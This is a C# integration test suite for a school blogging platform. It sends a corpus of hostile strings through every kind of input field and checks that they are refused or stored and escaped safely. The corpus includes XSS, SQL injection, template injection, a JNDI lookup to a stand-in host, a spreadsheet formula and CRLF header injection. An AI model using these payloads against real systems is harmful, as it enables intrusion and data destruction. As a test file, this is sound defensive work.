using System.Net;
using System.Net.Http.Json;
using System.Text;
using Microsoft.EntityFrameworkCore;
using Signpost.IntegrationTests.Infrastructure;
using Signpost.Web.Features.People;

namespace Signpost.IntegrationTests.Features;

/// <summary>A corpus of hostile strings: script injection, breakouts, SQL and format metacharacters, control and bidi characters, invalid UTF-16, very long text.</summary>
public static class HostileStrings
{
    public static readonly string[] Corpus =
    [
        "<script>alert('x')</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg/onload=alert(1)>",
        "</textarea><script>document.title='pwned'</script>",
        "javascript:alert(1)",
        "<a href=\"javascript:alert(1)\">click</a>",
        "{{constructor.constructor('alert(1)')()}}",
        "'; DROP TABLE \"People\"; --",
        "Robert'); DELETE FROM \"Sites\" WHERE ('1'='1",
        "%s%s%s%n %x {0} {1:D} ${jndi:ldap://x.example/a}",
        "=HYPERLINK(\"http://x.example\",\"click\")",
        "line one\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
        "a\u0000b\u0007c\u001b[31mred",
        "\u202Egnp.exe and \u2066isolated\u2069 text",
        "zero\u200Bwidth\uFEFFjoiners\u200D",
        "Zoë, Siân and José 👩🏽‍🏫 wrote this — ﬁne",
        "a\uD800b lone surrogate",
        new string('A', 100_000),
    ];

    public static TheoryData<int> Cases() => new(Enumerable.Range(0, Corpus.Length));
}

/// <summary>
/// Issue 7, "Hostile input": strings people (or attackers) type, through the real HTTP pipeline into every kind of
/// field — API bodies, form fields, search boxes, query strings, route values. Never a 500; what is accepted is stored
/// exactly as typed (surrounding spaces aside) and shown back escaped; what is refused gets a clear 4xx.
/// </summary>
public abstract class HostileInputTests<TFactory>(TFactory app) : IClassFixture<TFactory>
    where TFactory : SignpostFactory
{

    [Theory]
    [MemberData(nameof(HostileStrings.Cases), MemberType = typeof(HostileStrings))]
    public async Task A_proposal_field_is_refused_clearly_or_stored_exactly_and_shown_escaped(int i)
    {
        var hostile = HostileStrings.Corpus[i];
        var api = await app.ApiAsAsync("teacher.y2");
        // Every free-text field of a proposal at once (A.1.2–A.1.7, A.4.1, A.5.5): the one that refuses decides.
        var r = await api.PostAsync("/api/sites", RawJson(("name", $"Site {i} {hostile}"), ("purpose", hostile), ("summary", hostile),
            ("reason", hostile), ("maintainers", hostile), ("exitPlanDetails", hostile), ("successMeasures", hostile),
            ("interventionPlan", hostile), ("termsOfUse", hostile), ("houseRules", hostile)));
        Assert.True((int)r.StatusCode < 500, $"got {(int)r.StatusCode}");
        if (!r.IsSuccessStatusCode)
        {
            Assert.Equal("application/problem+json", r.Content.Headers.ContentType?.MediaType);
            return;
        }

        var slug = (await r.JsonAsync()).GetProperty("slug").GetString()!;
        await using (var db = app.SystemDb())
        {
            var site = await db.Sites.SingleAsync(s => s.Slug == slug);
            Assert.Equal($"Site {i} {hostile}".Trim(), site.Name);
            Assert.Equal(hostile.Trim(), site.Purpose);
            // (The intervention plan is kept for third-party sites only, A.5.5: this is a project blog.)
            Assert.All(new[] { site.Summary, site.Reason, site.Maintainers, site.ExitPlanDetails, site.SuccessMeasures, site.TermsOfUse, site.HouseRules },
                stored => Assert.Equal(hostile.Trim(), stored));
        }

        var browser = app.Browser();
        await browser.SignInOkAsync("teacher.y2");
        var html = await browser.GetPageAsync($"/sites/{slug}/proposal");
        AssertEscaped(html, hostile);
    }

    [Theory]
    [MemberData(nameof(HostileStrings.Cases), MemberType = typeof(HostileStrings))]
    public async Task A_pupils_comment_is_refused_clearly_or_stored_exactly(int i)
    {
        var hostile = HostileStrings.Corpus[i];
        var pupil = await app.ApiAsAsync("y4.pupil4");
        var r = await pupil.PostAsync("/api/sites/year-4/posts/viking-longships/comments", RawJson(("text", hostile)));
        Assert.True((int)r.StatusCode < 500, $"got {(int)r.StatusCode}");
        if (r.StatusCode == HttpStatusCode.TooManyRequests)
        {
            return; // the per-person comment limit (tested elsewhere) is a clear refusal too
        }

        if (r.StatusCode != HttpStatusCode.Created)
        {
            Assert.Equal("application/problem+json", r.Content.Headers.ContentType?.MediaType);
            return;
        }

        var id = Guid.Parse((await r.JsonAsync()).GetProperty("id").GetString()!);
        await using var db = app.SystemDb();
        Assert.Equal(hostile.Trim(), (await db.Comments.SingleAsync(c => c.Id == id)).Text);
    }

    [Theory]
    [MemberData(nameof(HostileStrings.Cases), MemberType = typeof(HostileStrings))]
    public async Task A_staff_posts_title_and_text_are_refused_clearly_or_stored_exactly_and_shown_escaped(int i)
    {
        var hostile = HostileStrings.Corpus[i];
        var title = $"Post {i} {(hostile.Length > 150 ? hostile[..150] : hostile)}";
        var api = await app.ApiAsAsync("teacher.y4");
        var r = await api.PostAsync("/api/sites/year-4/posts", RawJson(("title", title), ("body", hostile)));
        Assert.True((int)r.StatusCode < 500, $"got {(int)r.StatusCode}");
        if (!r.IsSuccessStatusCode)
        {
            Assert.Equal("application/problem+json", r.Content.Headers.ContentType?.MediaType);
            return;
        }

        var slug = (await r.JsonAsync()).GetProperty("slug").GetString()!;
        await using (var db = app.SystemDb())
        {
            var post = await db.Posts.SingleAsync(p => p.Slug == slug);
            Assert.Equal(title.Trim(), post.Title);
            Assert.Equal(hostile.Trim(), post.Body);
        }

        var author = app.Browser();
        await author.SignInOkAsync("teacher.y4");
        AssertEscaped(await author.GetPageAsync($"/sites/year-4/posts/{slug}"), hostile);
    }

    /// <summary>
    /// Names come into the school from CSV exports too: a pupil named with each hostile string is either refused on its
    /// row (control characters, length) or stored exactly as the file has it and shown escaped in the people directory.
    /// </summary>
    [Theory]
    [MemberData(nameof(HostileStrings.Cases), MemberType = typeof(HostileStrings))]
    public async Task A_name_in_an_imported_roster_is_refused_on_its_row_or_stored_exactly_and_shown_escaped(int i)
    {
        var hostile = HostileStrings.Corpus[i];
        var asInFile = Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(hostile)); // a file holds bytes: a lone surrogate cannot be in it
        var upn = Upn.MakeDemo(700 + i);
        var rows = await Rosters.PupilRowsAsync(app, await Rosters.SchoolIdAsync(app));
        rows.Add(string.Join(",", upn, "\"" + asInFile.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"", "Hostile", "6", "Year 6", "yes"));
        var head = app.Browser();
        await head.SignInOkAsync("head");
        var r = await head.ImportAsync("Pupils", Rosters.Csv(rows.Prepend(Rosters.PupilsHeader)));
        var html = await r.Content.ReadAsStringAsync();
        Assert.True((int)r.StatusCode < 500, $"got {(int)r.StatusCode}");
        await using var db = app.SystemDb();
        var stored = await db.People.SingleOrDefaultAsync(p => p.ExternalId == upn);
        if (r.StatusCode == HttpStatusCode.UnprocessableEntity)
        {
            Assert.Contains(Rosters.Errors(html), e => e.Row == rows.Count + 1 && e.Column == "first_name");
            Assert.Null(stored);
            return;
        }

        Assert.True(r.StatusCode == HttpStatusCode.OK && html.Contains("<h2>Imported</h2>", StringComparison.Ordinal), string.Join(" | ", Rosters.Errors(html)));
        Assert.Equal(asInFile.Trim(), stored?.FirstName);
        AssertEscaped(await head.GetPageAsync("/people?q=Hostile"), hostile);
    }

    [Theory]
    [MemberData(nameof(HostileStrings.Cases), MemberType = typeof(HostileStrings))]
    public async Task The_checker_api_answers_every_hostile_text_with_findings_inside_it_or_a_clear_refusal(int i)
    {
        var hostile = HostileStrings.Corpus[i];
        var api = await app.ApiAsAsync("teacher.y3");
        var r = await api.PostAsync("/api/check", RawJson(("id", $"case-{i}"), ("context", "pupil-comment"), ("text", hostile)));
        Assert.True((int)r.StatusCode < 500, $"got {(int)r.StatusCode}");
        if (!r.IsSuccessStatusCode)
        {
            Assert.Equal("application/problem+json", r.Content.Headers.ContentType?.MediaType);
            return;
        }

        var json = await r.JsonAsync();
        Assert.Equal($"case-{i}", json.GetProperty("id").GetString());
        Assert.Contains(json.GetProperty("action").GetString(), new[] { "allow", "hold", "block" });
        foreach (var f in json.GetProperty("findings").EnumerateArray())
        {
            var (start, length) = (f.GetProperty("start").GetInt32(), f.GetProperty("length").GetInt32());
            Assert.True(start >= 0 && length >= 0 && start + length <= hostile.Length, $"finding {start}+{length} outside a text of {hostile.Length}");
        }
    }

    [Theory]
    [MemberData(nameof(HostileStrings.Cases), MemberType = typeof(HostileStrings))]
    public async Task Search_boxes_query_strings_and_route_values_never_fail(int i)
    {
        var hostile = HostileStrings.Corpus[i].Length > 4000 ? HostileStrings.Corpus[i][..4000] : HostileStrings.Corpus[i];
        var e = Uri.EscapeDataString(hostile);
        var head = app.Browser();
        await head.SignInOkAsync("head");
        var urls = new List<string>
        {
            $"/people?q={e}", $"/people?kind={e}&leavers={e}", $"/audit?action={e}&actor={e}&from={e}&to={e}", $"/sites/school?x={e}",
            $"/account/sign-in?returnUrl={e}", $"/account/pupil?class={e}&pupil={e}", $"/account/set-password?user={e}&token={e}",
            $"/termly-report?term={e}", $"/moderation?site={e}", $"/api/sites/school/posts?mine={e}",
        };
        if (!hostile.Contains('\0', StringComparison.Ordinal))
        {
            // A NUL in the path never reaches the app: Kestrel answers 400 itself (the test server throws instead).
            urls.AddRange([$"/sites/{e}", $"/sites/school/posts/{e}", $"/report/comment/{e}", $"/sites/{e}/feed"]);
        }

        foreach (var url in urls)
        {
            var r = await head.GetAsync(url);
            Assert.True((int)r.StatusCode < 500, $"{url[..Math.Min(url.Length, 60)]}: got {(int)r.StatusCode}");
            if (r.StatusCode == HttpStatusCode.OK)
            {
                AssertEscaped(await r.Content.ReadAsStringAsync(), hostile, shownAsText: false);
            }
        }
    }

    [Fact]
    public async Task Invalid_utf8_and_malformed_json_get_400_not_500()
    {
        var api = await app.ApiAsAsync("teacher.y2");
        foreach (var url in new[] { "/api/sites", "/api/sites/year-4/posts/viking-longships/comments", "/api/check" })
        {
            var bad = new ByteArrayContent([0x7b, 0x22, 0x6e, 0x61, 0x6d, 0x65, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc3, 0x28, 0x22, 0x7d]); // {"name":"<invalid UTF-8>"}
            bad.Headers.ContentType = new("application/json");
            var r = await api.PostAsync(url, bad);
            Assert.True(r.StatusCode is HttpStatusCode.BadRequest or HttpStatusCode.Forbidden, $"{url}: got {(int)r.StatusCode}");

            var truncated = await api.PostAsync(url, new StringContent("{\"name\": \"unterminated", Encoding.UTF8, "application/json"));
            Assert.True(truncated.StatusCode is HttpStatusCode.BadRequest or HttpStatusCode.Forbidden, $"{url}: got {(int)truncated.StatusCode}");
        }
    }

    [Fact]
    public async Task Invalid_utf8_in_a_form_or_an_uploaded_roster_is_a_clear_refusal_or_a_replacement_character_never_a_500()
    {
        // A form body whose bytes are not UTF-8: the form reader substitutes U+FFFD; nothing fails.
        var pupil = app.Browser();
        await pupil.SignInOkAsync("y4.pupil4");
        var page = await pupil.GetPageAsync("/sites/year-4/posts/viking-longships");
        var body = Encoding.ASCII.GetBytes("__RequestVerificationToken=" + Uri.EscapeDataString(Http.Token(page)) + "&Text=Broken ")
            .Concat(new byte[] { 0xff, 0xfe, 0xc3, 0x28, 0x80 }).Concat(Encoding.ASCII.GetBytes(" bytes")).ToArray();
        var form = new ByteArrayContent(body);
        form.Headers.ContentType = new("application/x-www-form-urlencoded");
        var r = await pupil.PostAsync("/sites/year-4/posts/viking-longships/comment", form);
        Assert.True((int)r.StatusCode < 500, $"got {(int)r.StatusCode}");

        // A roster saved as Windows-1252 (Excel's plain CSV): refused with how to save it, not imported with names broken.
        var head = app.Browser();
        await head.SignInOkAsync("head");
        var rows = await Rosters.PupilRowsAsync(app, await Rosters.SchoolIdAsync(app));
        var csv = Encoding.UTF8.GetBytes(Rosters.Csv(rows.Prepend(Rosters.PupilsHeader)) + Upn.MakeDemo(799) + ",Zo");
        csv = [.. csv, 0xeb, .. Encoding.ASCII.GetBytes(",Fictional,6,Year 6,yes\r\n")]; // "Zoë" with ë as the single byte 0xEB
        var import = await head.ImportAsync("Pupils", Encoding.Latin1.GetString(csv), Encoding.Latin1);
        Assert.Equal(HttpStatusCode.UnprocessableEntity, import.StatusCode);
        Assert.Contains(ImportModel.NotUtf8, Http.Text(await import.Content.ReadAsStringAsync()), StringComparison.Ordinal);
        await using var db = app.SystemDb();
        Assert.False(await db.People.AnyAsync(p => p.ExternalId == Upn.MakeDemo(799)));
    }

    /// <summary>
    /// Multipart forms (uploads) are read by their own endpoints, after the text guard: a NUL in one of their text
    /// fields — the school's name beside its logo, a picture's description — is refused clearly and nothing is stored.
    /// </summary>
    [Fact]
    public async Task A_nul_in_a_text_field_of_an_upload_form_is_refused_clearly_and_nothing_is_stored()
    {
        var head = app.Browser();
        await head.SignInOkAsync("head");
        var page = await head.GetPageAsync("/school/settings");
        using var settings = new MultipartFormDataContent
        {
            { new StringContent(Http.Token(page)), "__RequestVerificationToken" },
            { new StringContent("Holbrook\0Primary"), "Input.Name" },
            { new StringContent("https://holbrook.example"), "Input.WebsiteUrl" },
            { new StringContent("Coventry Council"), "Input.LocalAuthority" },
        };
        var r = await head.PostAsync("/school/settings", settings);
        Assert.Equal(HttpStatusCode.BadRequest, r.StatusCode);
        Assert.Contains("cannot be stored", Http.Text(await r.Content.ReadAsStringAsync()), StringComparison.Ordinal);

        var teacher = await app.ApiAsAsync("teacher.y4");
        var created = await teacher.PostAsJsonAsync("/api/sites/year-4/posts", new { title = "Pond dipping", body = "We found newts." });
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var slug = (await created.JsonAsync()).GetProperty("slug").GetString()!;
        var api = await teacher.PostAsync($"/api/sites/year-4/posts/{slug}/images", Upload("file", "altText", "noPupils", "A pond\0with ducks"));
        Assert.Equal(HttpStatusCode.BadRequest, api.StatusCode);
        Assert.Equal("application/problem+json", api.Content.Headers.ContentType?.MediaType);

        var author = app.Browser();
        await author.SignInOkAsync("teacher.y4");
        var form = Upload("Picture", "AltText", "NoPupils", "A pond\0with ducks");
        form.Add(new StringContent(Http.Token(await author.GetPageAsync($"/sites/year-4/posts/{slug}/images"))), "__RequestVerificationToken");
        var pageUpload = await author.PostAsync($"/sites/year-4/posts/{slug}/images", form);
        Assert.Equal(HttpStatusCode.BadRequest, pageUpload.StatusCode);

        await using var db = app.SystemDb();
        Assert.DoesNotContain('\0', (await db.Schools.SingleAsync(s => s.Slug == "holbrook")).Name);
        var postId = (await db.Posts.SingleAsync(p => p.Slug == slug)).Id;
        Assert.False(await db.PostImages.AnyAsync(i => i.PostId == postId));
    }

    private static MultipartFormDataContent Upload(string fileField, string altField, string noPupilsField, string alt)
    {
        var file = new ByteArrayContent(Images.TestImages.Jpeg());
        file.Headers.ContentType = new("image/jpeg");
        return new MultipartFormDataContent { { file, fileField, "pond.jpg" }, { new StringContent(alt), altField }, { new StringContent("true"), noPupilsField } };
    }

    /// <summary>
    /// JSON written by hand, every character outside printable ASCII as a \uXXXX escape, so that what a hostile client
    /// can send (a lone surrogate, a NUL) reaches the server as such; a serializer would quietly repair it first.
    /// </summary>
    private static StringContent RawJson(params (string Name, string Value)[] fields)
    {
        var sb = new StringBuilder("{");
        foreach (var (name, value) in fields)
        {
            sb.Append(sb.Length > 1 ? "," : "").Append('"').Append(name).Append("\":\"");
            foreach (var c in value)
            {
                if (c is < ' ' or > '~' or '"' or '\\')
                {
                    sb.Append("\\u").Append(((int)c).ToString("x4", System.Globalization.CultureInfo.InvariantCulture));
                }
                else
                {
                    sb.Append(c);
                }
            }

            sb.Append('"');
        }

        return new StringContent(sb.Append('}').ToString(), Encoding.UTF8, "application/json");
    }

    /// <summary>The raw markup never appears in the page; an escaped form of the text does (for text short enough to show whole).</summary>
    private static void AssertEscaped(string html, string hostile, bool shownAsText = true)
    {
        foreach (var dangerous in new[] { "<script>alert", "<img src=x onerror", "<svg/onload", "<script>document.title", "<a href=\"javascript:" })
        {
            if (hostile.Contains(dangerous, StringComparison.Ordinal))
            {
                Assert.DoesNotContain(dangerous, html, StringComparison.Ordinal);
            }
        }

        if (shownAsText && hostile.Contains('<', StringComparison.Ordinal) && hostile.Length < 200)
        {
            Assert.Contains(hostile.Trim().Split('\n')[0], Http.Text(html), StringComparison.Ordinal);
        }
    }
}

public sealed class HostileInputTests_Sqlite(SqliteFactory app) : HostileInputTests<SqliteFactory>(app);

[Collection("postgres")]
public sealed class HostileInputTests_Postgres(PostgresFactory app) : HostileInputTests<PostgresFactory>(app);
